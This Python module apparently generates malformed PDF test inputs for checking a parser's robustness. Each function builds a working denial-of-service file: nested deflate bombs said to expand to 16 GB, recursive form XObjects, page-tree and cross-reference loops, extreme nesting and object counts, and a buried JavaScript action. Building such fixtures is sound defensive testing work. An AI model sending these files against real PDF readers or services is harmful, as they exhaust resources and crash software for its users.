"""PDFs that mean harm, made small by hand: numbered objects and a cross-reference."""

import zlib
from collections.abc import Sequence
from itertools import pairwise

CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
ONE_PAGE = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources 5 0 R>>"


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<<%b/Length %d>>stream\n%b\nendstream" % (entries, len(data), data)


def pdf(objects: Sequence[bytes], trailer: bytes = b"") -> bytes:
    """A classic PDF of `objects`, numbered from 1, the first of them its catalogue."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer <</Size %d/Root 1 0 R%b>>\n" % (len(objects) + 1, trailer)
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


def ordinary(pages: int = 1) -> bytes:
    """A PDF with nothing wrong with it."""
    kids = b" ".join(b"%d 0 R" % (number + 3) for number in range(pages))
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Resources<<>>>>"
    return pdf([CATALOG, b"<</Type/Pages/Kids[%b]/Count %d>>" % (kids, pages), *[page] * pages])


def with_content(data: bytes, entries: bytes = b"", resources: bytes = b"<<>>") -> list[bytes]:
    return [CATALOG, ONE_PAGE, PAGE, stream(data, entries), resources]


def deflated(piece: bytes, times: int) -> bytes:
    """`times` copies of `piece`, deflated without ever writing them out."""
    packer = zlib.compressobj(9)
    head = packer.compress(piece) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(piece) + packer.flush(zlib.Z_FULL_FLUSH)
    return head + again * (times - 1) + b"\x03\x00"


def content_bomb() -> bytes:
    """A page whose description is 16 GB of instructions, deflated twice."""
    data = zlib.compress(deflated(b"0 0 m 1 1 l S\n" * 75_000, 16_000), 9)
    return pdf(with_content(data, b"/Filter[/FlateDecode/FlateDecode]"))


def object_stream_bomb() -> bytes:
    """A catalogue inside an object stream of 16 GB."""
    packed = zlib.compress(deflated(b" " * (1 << 20), 16_000), 9)
    entries = b"/Type/ObjStm/N 1/First 8/Filter[/FlateDecode/FlateDecode]"
    body = b"%PDF-1.7\n"
    first = len(body)
    body += b"4 0 obj\n" + stream(packed, entries) + b"\nendobj\n"
    second = len(body)
    rows = b"".join(
        bytes([kind]) + where.to_bytes(4, "big") + bytes([index])
        for kind, where, index in (
            (0, 0, 0),
            (2, 4, 0),
            (2, 4, 1),
            (2, 4, 2),
            (1, first, 0),
            (1, second, 0),
        )
    )
    table = stream(rows, b"/Type/XRef/Size 6/W[1 4 1]/Root 1 0 R")
    return body + b"5 0 obj\n" + table + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % second


def laughing_forms(depth: int = 24, times: int = 10) -> bytes:
    """A page that draws a form that draws ten forms that each draw ten forms."""
    use = b"/F Do\n" * times
    forms = [
        stream(
            use, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F %d 0 R>>>>" % n
        )
        for n in range(7, 7 + depth)
    ]
    last = stream(b"0 0 m 1 1 l S", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]")
    return pdf([*with_content(use, resources=b"<</XObject<</F 6 0 R>>>>"), *forms, last])


def page_tree_loop() -> bytes:
    return pdf(
        [CATALOG, b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 9>>", b"<</Type/Pages/Kids[2 0 R]>>"]
    )


def deep_page_tree(depth: int = 50_000) -> bytes:
    inner = [b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (n + 1) for n in range(2, depth)]
    return pdf([CATALOG, *inner, b"<</Type/Page/MediaBox[0 0 9 9]>>"])


def many_pages_promised() -> bytes:
    return pdf([CATALOG, b"<</Type/Pages/Kids[3 0 R]/Count 2147483647>>", b"<</Type/Page>>"])


def one_page_many_times() -> bytes:
    """A page tree of forty levels, where each level names the next one twice: 2^40 pages."""
    inner = [
        b"<</Type/Pages/Kids[%d 0 R %d 0 R]/Count 2>>" % (b, b) for _, b in pairwise(range(2, 43))
    ]
    return pdf([CATALOG, *inner, b"<</Type/Page/MediaBox[0 0 9 9]>>"])


def xref_loop() -> bytes:
    """Two cross-reference tables, each of which says that the other came before it."""
    plain = pdf([CATALOG, b"<</Type/Pages/Kids[]/Count 0>>"], b"/Prev 9999999999")
    first = plain.rindex(b"xref\n0")
    second = len(plain)
    table = b"xref\n0 0\ntrailer <</Size 3/Root 1 0 R/Prev %010d>>\nstartxref\n%d\n%%%%EOF\n"
    return plain.replace(b"9999999999", b"%010d" % second) + table % (first, second)


def length_loop() -> bytes:
    """A stream whose length is written in itself."""
    body = b"<</Length 4 0 R>>stream\n0 0 m\nendstream"
    return pdf([CATALOG, ONE_PAGE, PAGE, body, b"<<>>"])


def nested_arrays(depth: int = 2_000_000) -> bytes:
    return pdf([CATALOG, ONE_PAGE, PAGE, stream(b""), b"[" * depth + b"]" * depth])


def wide_dictionary(members: int = 300_000) -> bytes:
    """One object with a script at the end of very many dictionaries."""
    many = b"[" + b"<</V 1>>" * members + b"<</S/JavaScript/JS(x)>>]"
    return pdf([CATALOG, ONE_PAGE, PAGE, stream(b""), many])


def million_objects(count: int = 1_100_000) -> bytes:
    return pdf([CATALOG, ONE_PAGE, PAGE, stream(b""), b"<<>>", *[b"0"] * count])
